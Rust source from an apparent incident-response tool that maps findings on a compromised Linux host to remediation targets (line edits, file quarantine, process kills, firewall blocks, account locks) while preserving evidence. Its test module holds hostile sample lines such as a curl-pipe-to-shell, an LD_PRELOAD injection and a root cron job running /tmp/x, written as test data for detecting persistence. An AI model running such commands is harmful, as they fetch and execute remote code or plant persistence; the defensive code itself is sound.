//! From subjects to targets: each artifact subject becomes the narrowest target that undoes it (a line
//! rather than a file, an entry rather than a key file) with the identity the snapshot recorded and the
//! [`Basis`] it rests on; evidence subjects become copies; what the snapshot cannot pin down safely
//! becomes a note for the responder.

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;

use minetrace_schemas::escape_bytes;
use minetrace_schemas::findings::{Role, Severity, Subject};
use minetrace_schemas::records::file::FileKind;
use minetrace_schemas::records::package::PackageVerdict;
use minetrace_schemas::RawBytes;

use super::edit;
use super::firewall;
use super::plan::{FileTarget, Gate, LineKind, LineRemoval, LinkTarget, ProcessTarget};
use super::roles::EvidenceClasses;
use super::targets::{
    add_why, file_target, in_unit_dir, is_redis_dump, link_target, not_by_this_name, unit_name,
    Places,
};
use crate::indicators::Indicators;
use crate::model::HostModel;
use crate::parse::authorized_keys::{self, AuthorizedKey};
use crate::parse::continuation::{logical_lines, Joining};

/// Whether `--apply` may act on a target unasked (attributed to the intrusion), or only when the operator
/// names it, and why not.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attr {
    Attributed,
    Review(String),
}

/// The findings a target rests on and whether one of them attributes it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Basis {
    pub why: Vec<String>,
    pub attributed: bool,
    /// Why it is not attributed (empty once it is).
    pub review: Vec<String>,
}

impl Basis {
    pub fn one(why: &str, attr: &Attr) -> Basis {
        let mut b = Basis::default();
        b.add(why, attr);
        b
    }

    pub fn add(&mut self, why: &str, attr: &Attr) {
        add_why(&mut self.why, why);
        match attr {
            Attr::Attributed => self.attributed = true,
            Attr::Review(r) => add_why(&mut self.review, r),
        }
    }

    pub fn merge(&mut self, other: &Basis) {
        for w in &other.why {
            add_why(&mut self.why, w);
        }
        for r in &other.review {
            add_why(&mut self.review, r);
        }
        self.attributed |= other.attributed;
    }

    /// This basis, never attributed (a cap the planner puts on whatever the findings say).
    pub fn capped(&self, reason: &str) -> Basis {
        let mut b = self.clone();
        b.attributed = false;
        add_why(&mut b.review, reason);
        b
    }
}

/// What a whole file subject becomes.
pub enum FileFate {
    Unit(String),
    Quarantine,
    Reinstall(Option<String>),
    /// A packaged tool moved away goes back to its package path ([`super::rename_back`]).
    RenameBack(super::rename_back::MoveBack),
}

/// Lines wanted in one file: by line number, the flagged key's fingerprint (for keys) and the basis.
pub type WantedLines = BTreeMap<u32, (Option<String>, Basis)>;

/// An iptables rule as `-C`/`-D` arguments, the address family it names, the tables the snapshot saw it
/// in, and the basis.
pub type RuleEntry = (Vec<Vec<u8>>, Option<u8>, Vec<String>, Basis);

pub struct Collect {
    classes: EvidenceClasses,
    /// What kind of place a path is (package directory, shared file).
    pub places: Places,
    /// Evidence files to copy before anything is destroyed, by path: never modified or removed.
    pub evidence: BTreeMap<Vec<u8>, (FileTarget, Basis)>,
    pub procs: BTreeMap<(i32, u64), (ProcessTarget, Basis)>,
    /// Whole files by path.
    pub files: BTreeMap<Vec<u8>, (FileTarget, Basis, FileFate)>,
    /// Symbolic links to remove, by path.
    pub links: BTreeMap<Vec<u8>, (LinkTarget, Basis)>,
    /// Shared files named whole by a finding, by path, with their label for the responder.
    pub shared: BTreeMap<Vec<u8>, String>,
    /// Lines to remove, by path then line number.
    pub lines: BTreeMap<Vec<u8>, WantedLines>,
    /// Flagged lines of systemd units and drop-ins, by path then line number: whether the unit goes whole
    /// or loses only these lines is decided once every kit file is known ([`super::units::resolve`]).
    pub unit_lines: BTreeMap<Vec<u8>, WantedLines>,
    /// Flagged hook lines of APT configuration files, by path then line number: the whole file or a review
    /// item, never a line edit ([`super::apt_hooks::resolve`]).
    pub apt_lines: BTreeMap<Vec<u8>, WantedLines>,
    pub endpoints: BTreeMap<(IpAddr, u16), Basis>,
    pub rules: BTreeMap<Vec<u8>, RuleEntry>,
    pub accounts: BTreeMap<Vec<u8>, (Option<u32>, Basis)>,
    pub manual: BTreeSet<String>,
    pub rebuild_why: BTreeSet<String>,
    /// Locked files (recorded paths) with the severity `MT-EVA-001` gave the lock: whether an edit sets
    /// it again is `build::lock_is_intrusions` (review #10).
    pub locks: BTreeMap<Vec<u8>, Severity>,
}

impl Collect {
    pub fn new(model: &HostModel, iocs: &Indicators) -> Collect {
        Collect {
            classes: EvidenceClasses::new(model, iocs),
            places: Places::new(iocs),
            evidence: BTreeMap::new(),
            procs: BTreeMap::new(),
            files: BTreeMap::new(),
            links: BTreeMap::new(),
            shared: BTreeMap::new(),
            lines: BTreeMap::new(),
            unit_lines: BTreeMap::new(),
            apt_lines: BTreeMap::new(),
            endpoints: BTreeMap::new(),
            rules: BTreeMap::new(),
            accounts: BTreeMap::new(),
            manual: BTreeSet::new(),
            rebuild_why: BTreeSet::new(),
            locks: BTreeMap::new(),
        }
    }

    pub fn manual(&mut self, what: String, reason: &str) {
        self.manual.insert(format!("{what}: {reason}"));
    }

    /// A subject whose detector declared it evidence, or a file of an evidence class whatever it was
    /// declared: its regular file is copied to the quarantine (when the plan destroys anything at all)
    /// and never modified or removed.
    fn evidence(&mut self, model: &HostModel, s: &Subject, b: &Basis) {
        let path = match s {
            Subject::File { path, .. }
            | Subject::Persistence { path, .. }
            | Subject::SshKey { path, .. } => path,
            _ => return,
        };
        let Some(rec) = model.file_aliased(path.as_bytes()) else {
            return;
        };
        if let Ok(t) = file_target(rec) {
            let entry = self
                .evidence
                .entry(t.path.0.clone())
                .or_insert_with(|| (t, Basis::default()));
            entry.1.merge(b);
        }
    }

    /// The evidence class of a subject's file, when it has one (looked up under the name the snapshot
    /// recorded, merged-`/usr` aliases followed).
    fn evidence_class_of(&self, model: &HostModel, s: &Subject) -> Option<String> {
        let path = match s {
            Subject::File { path, .. }
            | Subject::Persistence { path, .. }
            | Subject::SshKey { path, .. } => path,
            _ => return None,
        };
        let rec = model.file_aliased(path.as_bytes());
        let recorded = rec.map_or(path.as_bytes(), |r| r.path.as_bytes());
        let sha = rec.and_then(|r| r.sha256.as_deref());
        self.classes
            .class_of(recorded, sha)
            .or_else(|| self.classes.class_of(path.as_bytes(), sha))
            .map(|c| c.describe())
    }

    /// Notes how a finding judged the lock (immutable or append-only flag) of a subject's file.
    pub fn lock_judged(&mut self, model: &HostModel, s: &Subject, severity: Severity) {
        if let Subject::File { path, .. } = s {
            let recorded = model
                .file_aliased(path.as_bytes())
                .map_or(path.as_bytes(), |r| r.path.as_bytes());
            let judged = self.locks.entry(recorded.to_vec()).or_insert(severity);
            *judged = (*judged).max(severity);
        }
    }

    /// A subject by its role: artifacts are acted on, evidence preserved, context left alone. A file of an
    /// evidence class is evidence whatever its detector declared; a symbolic link the attacker put at such
    /// a path (`~/.bash_history -> /dev/null`) holds no evidence: removing it restores the history, and
    /// that is a review item (the operator may want the link as it is, for the record).
    pub fn subject_with_role(&mut self, model: &HostModel, s: &Subject, role: Role, b: &Basis) {
        let class = self.evidence_class_of(model, s);
        match (role, class) {
            (Role::Context, _) => {}
            (Role::Evidence, _) => self.evidence(model, s, b),
            (Role::Artifact, None) => self.subject(model, s, b),
            (Role::Artifact, Some(class)) => {
                if let Subject::File { path, .. } = s {
                    if model
                        .file_aliased(path.as_bytes())
                        .is_some_and(|f| f.kind == FileKind::Symlink)
                    {
                        let b = b.capped(
                            "restores a history or log the attacker linked away: name it to undo the link",
                        );
                        return self.whole_file(model, path, &b);
                    }
                }
                self.evidence(model, s, b);
                let what = match s {
                    Subject::File { path, .. } => format!("file {}", path.escaped()),
                    Subject::Persistence { path, line } | Subject::SshKey { path, line, .. } => {
                        format!("line {line} of {}", path.escaped())
                    }
                    _ => return,
                };
                self.manual(
                    what,
                    &format!("{class} is evidence: preserved, never modified or removed"),
                );
            }
        }
    }

    fn process(
        &mut self,
        model: &HostModel,
        pid: i32,
        start_ticks: u64,
        exe: Option<&RawBytes>,
        b: &Basis,
    ) {
        let label = format!("process {pid}");
        if pid <= 1 || model.host.collector_pids.contains(&pid) {
            return self.manual(label, "pid 1 and the collector are never signalled");
        }
        let rec = model.process(pid).filter(|p| p.start_ticks == start_ticks);
        if let Some(p) = rec {
            if crate::detect::runtime::support::is_kernel_thread(p) {
                return self.manual(label, "a kernel thread; a rebuild is the remedy");
            }
        }
        let exe_sha256 = rec
            .and_then(|p| model.executable_of(p))
            .and_then(|e| e.sha256.clone());
        let target = ProcessTarget {
            pid,
            start_ticks,
            exe_sha256,
            exe_path: exe
                .cloned()
                .or_else(|| rec.and_then(|p| p.exe.as_ref().map(|e| e.path.clone()))),
            comm: rec.map(|p| p.comm.clone()).unwrap_or_default(),
        };
        let entry = self
            .procs
            .entry((pid, start_ticks))
            .or_insert_with(|| (target, Basis::default()));
        entry.1.merge(b);
    }

    pub fn whole_file(&mut self, model: &HostModel, path: &RawBytes, b: &Basis) {
        let label = format!("file {}", path.escaped());
        if let Some(reason) = not_by_this_name(model, &self.places, path.as_bytes(), None) {
            return self.manual(label, &reason);
        }
        let mut dump = false;
        // The collector listed it among the files of a system binary directory no package owns: a
        // planted program or a packaged tool copied under another name (MT-EVA-022, a renamed chattr).
        // No package reinstall brings anything back; the copy is removed (its twin stays).
        let mut unowned = false;
        let target = match model.file_aliased(path.as_bytes()) {
            Some(f) if f.kind == FileKind::Symlink => {
                return match link_target(&self.places, f) {
                    Ok(t) => {
                        let entry = self
                            .links
                            .entry(t.path.0.clone())
                            .or_insert_with(|| (t, Basis::default()));
                        entry.1.merge(b);
                    }
                    Err(reason) => self.manual(label, reason),
                };
            }
            Some(f) => match file_target(f) {
                Ok(t) => {
                    dump = is_redis_dump(model, f);
                    unowned = f.category == "system-bin";
                    t
                }
                Err(reason) => return self.manual(label, reason),
            },
            None => {
                let exe = model.executables.iter().find(|e| e.path == *path);
                match exe {
                    Some(e) if e.deleted || e.memfd => return self.manual(
                        label,
                        "deleted or memory-only: nothing on disk (its process image is preserved)",
                    ),
                    Some(e) => match &e.sha256 {
                        Some(h) if path.as_bytes().starts_with(b"/") => FileTarget {
                            path: path.clone(),
                            dev: e.file.dev,
                            ino: e.file.ino,
                            sha256: h.clone(),
                            size: e.size,
                        },
                        _ => return self.manual(label, "the snapshot has no hash for it"),
                    },
                    None => {
                        return self.manual(
                            label,
                            "not in the snapshot's file records (no identity to check)",
                        )
                    }
                }
            }
        };
        // Decided on the name the snapshot recorded (merged-/usr aliases followed).
        let recorded = target.path.clone();
        if let Some(reason) = not_by_this_name(
            model,
            &self.places,
            recorded.as_bytes(),
            Some((target.dev, target.ino)),
        ) {
            return self.manual(label, &reason);
        }
        let moved = unowned
            .then(|| super::rename_back::move_back(model, recorded.as_bytes()))
            .flatten();
        if let Some(Err(reason)) = moved {
            return self.manual(label, reason);
        }
        let fate = if let Some(unit) = unit_name(recorded.as_bytes()) {
            if super::units::packaged(model, recorded.as_bytes()) {
                return self.manual(
                    label,
                    "a unit file its package owns (the package check): never removed whole by this plan, whatever its birth time or enablement links say (a rewritten unit re-enabled looks new); restore it from its package or edit it by hand",
                );
            }
            FileFate::Unit(unit)
        } else if let Some(Ok(back)) = moved {
            FileFate::RenameBack(back)
        } else if dump || unowned {
            FileFate::Quarantine
        } else if self.places.is_shared_file(recorded.as_bytes()) {
            // Said only when no flagged line of it is removed either (see `build`).
            self.shared.insert(recorded.0.clone(), label);
            return;
        } else {
            // Reinstall only on an integrity check's verdict: a package's configuration file
            // (`persistence-config`) that differs is an edit, and reinstalling does not undo it (dpkg
            // keeps a modified conffile) while it restarts the package's services.
            let owner = model.package_check(recorded.as_bytes());
            if let Some(c) = owner.filter(|c| {
                c.verdict == PackageVerdict::Mismatch
                    && model.integrity_check(recorded.as_bytes()).is_none()
            }) {
                let reason = format!(
                    "a configuration file of package {} that differs from the package's copy (an admin's \
                     edit or the intruder's); review its lines, reinstalling would not restore it",
                    c.package.as_deref().unwrap_or("?")
                );
                return self.manual(label, &reason);
            }
            let pkg = model
                .integrity_check(recorded.as_bytes())
                .or(owner.filter(|c| c.verdict != PackageVerdict::Mismatch));
            match pkg.map(|p| (p.verdict, p.package.clone())) {
                Some((PackageVerdict::Mismatch, name)) => FileFate::Reinstall(name),
                Some((PackageVerdict::Match, _)) => {
                    return self
                        .manual(label, "identical to its package's copy; review the finding")
                }
                Some((PackageVerdict::NoDigest, name))
                    if self.places.in_package_dir(recorded.as_bytes()) =>
                {
                    FileFate::Reinstall(name)
                }
                Some((PackageVerdict::NotOwned, _)) => FileFate::Quarantine,
                _ if self.places.in_package_dir(recorded.as_bytes()) => FileFate::Reinstall(None),
                _ => FileFate::Quarantine,
            }
        };
        let entry = self
            .files
            .entry(target.path.0.clone())
            .or_insert_with(|| (target, Basis::default(), fate));
        entry.1.merge(b);
    }

    fn line(&mut self, path: &RawBytes, number: u32, key: Option<String>, b: &Basis) {
        let entry = self
            .lines
            .entry(path.0.clone())
            .or_default()
            .entry(number)
            .or_insert_with(|| (key, Basis::default()));
        entry.1.merge(b);
    }

    fn subject(&mut self, model: &HostModel, s: &Subject, b: &Basis) {
        match s {
            Subject::Process {
                pid,
                start_ticks,
                exe,
            } => self.process(model, *pid, *start_ticks, exe.as_ref(), b),
            Subject::File { path, .. } => self.whole_file(model, path, b),
            Subject::Persistence { path, line } => {
                if *line == 0 {
                    self.whole_file(model, path, b)
                } else if in_unit_dir(path.as_bytes()) {
                    let entry = self
                        .unit_lines
                        .entry(path.0.clone())
                        .or_default()
                        .entry(*line)
                        .or_insert_with(|| (None, Basis::default()));
                    entry.1.merge(b);
                } else if super::apt_hooks::is_apt_conf(path.as_bytes()) {
                    let entry = self
                        .apt_lines
                        .entry(path.0.clone())
                        .or_default()
                        .entry(*line)
                        .or_insert_with(|| (None, Basis::default()));
                    entry.1.merge(b);
                } else {
                    self.line(path, *line, None, b)
                }
            }
            Subject::SshKey {
                fingerprint,
                path,
                line,
            } => self.line(path, *line, Some(fingerprint.clone()), b),
            Subject::Endpoint { addr } => match firewall::endpoint(addr) {
                Some(ep) => self.endpoints.entry(ep).or_default().merge(b),
                None => self.manual(
                    format!("endpoint {}", escape_bytes(addr.as_bytes())),
                    "not an address and port traffic can be blocked to",
                ),
            },
            Subject::FirewallRule { rule } => match firewall::rule_args(rule.as_bytes()) {
                Ok(args) => {
                    let tables = firewall::tables_of(model, rule.as_bytes());
                    if tables.is_empty() {
                        return self.manual(
                            format!("firewall rule {}", rule.escaped()),
                            "no table of the snapshot holds it",
                        );
                    }
                    let fam = firewall::family(&args);
                    let entry = self
                        .rules
                        .entry(rule.0.clone())
                        .or_insert_with(|| (args, fam, tables, Basis::default()));
                    entry.3.merge(b);
                }
                Err(reason) => self.manual(format!("firewall rule {}", rule.escaped()), reason),
            },
            Subject::Account { name, uid } => {
                let n = name.as_bytes();
                let sane = !n.is_empty()
                    && n.len() <= 64
                    && !n.starts_with(b"-")
                    && n.iter().all(|b| b.is_ascii_graphic() && *b != b':');
                if !sane {
                    self.manual(
                        format!("account {}", name.escaped()),
                        "unusual name; lock it by hand",
                    )
                } else if n == b"root" {
                    self.manual(
                        "account root".into(),
                        "never locked; set a new password instead",
                    )
                } else {
                    let entry = self
                        .accounts
                        .entry(n.to_vec())
                        .or_insert_with(|| (*uid, Basis::default()));
                    entry.1.merge(b);
                }
            }
            Subject::KernelModule { name } => {
                self.rebuild_why
                    .insert(format!("kernel module {}", escape_bytes(name.as_bytes())));
            }
        }
    }
}

/// The lines of one file to remove, resolved against the snapshot's copy.
pub struct LineEdit {
    pub target: FileTarget,
    pub removals: Vec<(LineRemoval, Basis)>,
    /// Nothing that runs would be left with every wanted line removed: blank lines, comments (a
    /// shebang among them) and plain `NAME=value` settings only.
    pub leaves_inert: bool,
    /// Authorized keys the file holds that no removal touches.
    pub keys_left: usize,
}

/// A line that runs nothing: blank, a comment (or shebang), or a plain setting (`SHELL=/bin/sh`,
/// `MAILTO = root`) whose value holds no expansion, substitution or command separator.
fn inert_line(line: &[u8]) -> bool {
    let t = line.trim_ascii();
    if t.is_empty() || t.starts_with(b"#") {
        return true;
    }
    let Some(eq) = t.iter().position(|b| *b == b'=') else {
        return false;
    };
    let (name, rest) = t.split_at(eq);
    let (name, value) = (name.trim_ascii(), rest.get(1..).unwrap_or_default());
    let name_ok = name
        .first()
        .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
        && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
    // `NAME=value cmd` runs cmd: a value with a space in it is not a plain setting.
    let value = value.trim_ascii();
    name_ok
        && !value
            .iter()
            .any(|b| b.is_ascii_whitespace() || b"$`;|&()<>\\".contains(b))
}

/// Lines of one file, resolved against the snapshot's copy, or why it cannot be done.
pub fn line_edit(
    model: &HostModel,
    places: &Places,
    path: &[u8],
    wanted: &WantedLines,
) -> Result<LineEdit, &'static str> {
    let (target, content) = snapshot_copy(model, places, path)?;
    let pam_stack = super::pam_stacks::is_stack(path);
    if pam_stack {
        super::pam_stacks::removal_gate(content, wanted.keys().copied())?;
    }
    let joining = crate::model::persistence::location(path).and_then(|l| l.format.joining());
    let lines = FileLines::new(content, wanted, joining);
    let mut removals: BTreeMap<usize, (LineRemoval, Basis)> = BTreeMap::new();
    // Lines of entries that continue over several physical lines: the ones after the first may be the
    // host's own (a shell or udev joins whatever follows a `\`).
    let mut continued: BTreeSet<usize> = BTreeSet::new();
    for (&number, (fingerprint, basis)) in wanted {
        let (picked, spans_lines) = lines.picked(number, fingerprint.as_deref())?;
        for (i, span, key) in picked {
            if spans_lines {
                continued.insert(i);
            }
            let bytes = removable_bytes(content, span)?;
            let kind = line_kind(key)?;
            let entry = removals.entry(i).or_insert_with(|| {
                (
                    LineRemoval {
                        number: u32::try_from(i + 1).unwrap_or(u32::MAX),
                        offset: span.start as u64,
                        len: (span.next - span.start) as u64,
                        bytes: RawBytes::from(bytes),
                        kind,
                        why: Vec::new(),
                        // Closed until the planner decides it (`build::edit_item`).
                        gate: Gate::Review(Vec::new()),
                    },
                    Basis::default(),
                )
            });
            entry.1.merge(basis);
            for w in &basis.why {
                add_why(&mut entry.0.why, w);
            }
        }
    }
    let ranges: Vec<(usize, usize)> = removals
        .values()
        .filter_map(|(r, _)| {
            Some((
                usize::try_from(r.offset).ok()?,
                usize::try_from(r.len).ok()?,
            ))
        })
        .collect();
    let after = edit::without_ranges(content, &ranges).ok_or("overlapping lines")?;
    let leaves_inert = after.split(|b| *b == b'\n').all(inert_line);
    // A PAM stack's line is the operator's call even from a high finding (`pam_stacks`).
    if pam_stack {
        for (_, b) in removals.values_mut() {
            *b = Basis {
                why: std::mem::take(&mut b.why),
                attributed: false,
                review: vec![super::pam_stacks::STACK_REVIEW.to_owned()],
            };
        }
    }
    // Removed whole (the kit's own file: nothing that runs is left) the entry goes with the file; edited
    // in place, a continued entry's removal is the operator's call.
    if !leaves_inert || places.is_shared_file(path) {
        for i in &continued {
            if let Some((_, b)) = removals.get_mut(i) {
                *b = Basis {
                    why: std::mem::take(&mut b.why),
                    attributed: false,
                    review: vec![CONTINUED_REVIEW.to_owned()],
                };
            }
        }
    }
    let keys_left = lines
        .spans
        .iter()
        .enumerate()
        .filter(|(i, s)| !removals.contains_key(i) && lines.key_at(*i, s).is_some())
        .count();
    Ok(LineEdit {
        target,
        removals: removals.into_values().collect(),
        leaves_inert,
        keys_left,
    })
}

/// The file's identity and the snapshot's copy of its bytes, when an edit can rest on them: recorded,
/// reached by this very name (no bind mount, not a system file's other name), whole and matching its
/// hash.
fn snapshot_copy<'m>(
    model: &'m HostModel,
    places: &Places,
    path: &[u8],
) -> Result<(FileTarget, &'m [u8]), &'static str> {
    let rec = model
        .file(path)
        .ok_or("not in the snapshot's file records")?;
    let target = file_target(rec)?;
    if not_by_this_name(model, places, path, Some((target.dev, target.ino))).is_some() {
        return Err("it lies under a bind mount or is a system file under another name: never edited through this name");
    }
    let content = model
        .content(rec)
        .ok_or("its content is not in the bundle")?;
    if rec.truncated || edit::sha256(content) != target.sha256 {
        return Err("the bundle's copy is partial or does not match its hash");
    }
    Ok((target, content))
}

/// Why a continued entry's lines are a review item when its file is edited in place.
const CONTINUED_REVIEW: &str = "the entry continues over several lines (a trailing backslash): the lines after its first may be the host's own command joined to it; remove them only after reading them";

/// A line an edit picked: its 0-based index, its span, and its authorized key when it holds one.
type Picked = (usize, edit::LineSpan, Option<AuthorizedKey>);

/// The lines of the snapshot's copy, with what finds the wanted ones among them.
struct FileLines<'c> {
    content: &'c [u8],
    spans: Vec<edit::LineSpan>,
    /// Line indices by their bytes, built once per file when a plain line is wanted: every copy of a
    /// flagged line goes, and a 50,000-line crontab stays linear.
    by_text: std::collections::HashMap<&'c [u8], Vec<usize>>,
    /// The entries that continue over several physical lines, as the file's mechanism joins them
    /// ([`crate::model::persistence::Format::joining`]): 0-based first line → last line.
    continued: BTreeMap<usize, usize>,
}

impl<'c> FileLines<'c> {
    fn new(content: &'c [u8], wanted: &WantedLines, joining: Option<Joining>) -> FileLines<'c> {
        let spans = edit::line_spans(content);
        let mut by_text: std::collections::HashMap<&[u8], Vec<usize>> = Default::default();
        if wanted.values().any(|(fp, _)| fp.is_none()) {
            for (j, o) in spans.iter().enumerate() {
                if let Some(t) = content.get(o.start..o.end) {
                    by_text.entry(t).or_default().push(j);
                }
            }
        }
        let continued = joining
            .map(|j| {
                logical_lines(content, j)
                    .into_iter()
                    .filter(|l| l.last > l.first)
                    .filter_map(|l| {
                        let first = usize::try_from(l.first).ok()?.checked_sub(1)?;
                        let last = usize::try_from(l.last).ok()?.checked_sub(1)?;
                        Some((first, last))
                    })
                    .collect()
            })
            .unwrap_or_default();
        FileLines {
            content,
            spans,
            by_text,
            continued,
        }
    }

    /// The authorized key on line `i` (0-based), if it holds one.
    fn key_at(&self, i: usize, s: &edit::LineSpan) -> Option<AuthorizedKey> {
        let raw = self.content.get(s.start..s.end)?;
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        authorized_keys::parse_line(u32::try_from(i + 1).ok()?, raw)
    }

    /// The lines a wanted entry names: a key by its fingerprint on every line (duplicates go too), a
    /// plain line by its 1-based `number` with every copy of its bytes (it runs the same thing; the model
    /// examines a repeated line once), an entry that continues over several lines by all of them and no
    /// copies (its first line is only a prefix another entry may share; the model examines every entry of
    /// a file that joins lines). The flag says the lines are such an entry's.
    fn picked(
        &self,
        number: u32,
        fingerprint: Option<&str>,
    ) -> Result<(Vec<Picked>, bool), &'static str> {
        if fingerprint.is_none() {
            let first = usize::try_from(number).ok().and_then(|n| n.checked_sub(1));
            if let Some((&first, &last)) = first.and_then(|f| self.continued.get_key_value(&f)) {
                let lines: Vec<Picked> = (first..=last)
                    .filter_map(|j| Some((j, *self.spans.get(j)?, None)))
                    .collect();
                return Ok((lines, true));
            }
        }
        let picked: Vec<Picked> = match fingerprint {
            Some(fp) => self
                .spans
                .iter()
                .enumerate()
                .filter_map(|(i, s)| {
                    let key = self.key_at(i, s)?;
                    (key.fingerprint == fp).then_some((i, *s, Some(key)))
                })
                .collect(),
            None => {
                let i = usize::try_from(number)
                    .ok()
                    .and_then(|n| n.checked_sub(1))
                    .ok_or("line 0")?;
                let s = self
                    .spans
                    .get(i)
                    .ok_or("line number past the end of the file")?;
                let text = self
                    .content
                    .get(s.start..s.end)
                    .ok_or("line out of range")?;
                let copies = self.by_text.get(text).map_or(&[][..], Vec::as_slice);
                // A copy inside another entry's continuation is part of that entry, not a copy.
                let inside = |j: usize| self.continued.iter().any(|(f, l)| *f <= j && j <= *l);
                std::iter::once(i)
                    .chain(copies.iter().copied().filter(|j| *j != i && !inside(*j)))
                    .filter_map(|j| Some((j, *self.spans.get(j)?, None)))
                    .collect()
            }
        };
        if picked.is_empty() {
            return Err("no line holds the flagged key");
        }
        Ok((picked, false))
    }
}

/// A picked line's bytes, when the script can remove it safely: no NUL byte, not blank.
fn removable_bytes(content: &[u8], span: edit::LineSpan) -> Result<&[u8], &'static str> {
    let bytes = content
        .get(span.start..span.end)
        .ok_or("line out of range")?;
    if bytes.contains(&0) {
        return Err("the line holds a NUL byte");
    }
    if bytes.iter().all(|b| b.is_ascii_whitespace()) {
        return Err("the flagged line is blank");
    }
    Ok(bytes)
}

/// What a picked line is: an authorized key (matched at run time by its blob, which must be plain
/// base64 to be written into the plan) or a plain line.
fn line_kind(key: Option<AuthorizedKey>) -> Result<LineKind, &'static str> {
    let Some(k) = key else {
        return Ok(LineKind::Line);
    };
    if k.base64.is_empty()
        || !k
            .base64
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(b))
    {
        return Err("the key's base64 text is unusual");
    }
    Ok(LineKind::SshKey {
        key_type: k.key_type,
        blob: String::from_utf8_lossy(&k.base64).into_owned(),
        fingerprint: k.fingerprint,
    })
}

#[cfg(test)]
mod tests {
    use super::inert_line;

    #[test]
    fn inert_lines_run_nothing() {
        for l in [
            &b""[..],
            b"   ",
            b"#!/bin/sh",
            b"# m h dom mon dow command",
            b"SHELL=/bin/sh",
            b"PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin",
            b"MAILTO = root@example.com",
        ] {
            assert!(inert_line(l), "{}", String::from_utf8_lossy(l));
        }
        for l in [
            &b"/usr/bin/crondr -daily &"[..],
            b"X=$(curl http://x/y|sh)",
            b"X=`id`",
            b"A=1; /tmp/x",
            b"LD_PRELOAD=/tmp/x.so /bin/true",
            b"* * * * * root /tmp/x",
            b"1X=2",
        ] {
            assert!(!inert_line(l), "{}", String::from_utf8_lossy(l));
        }
    }
}
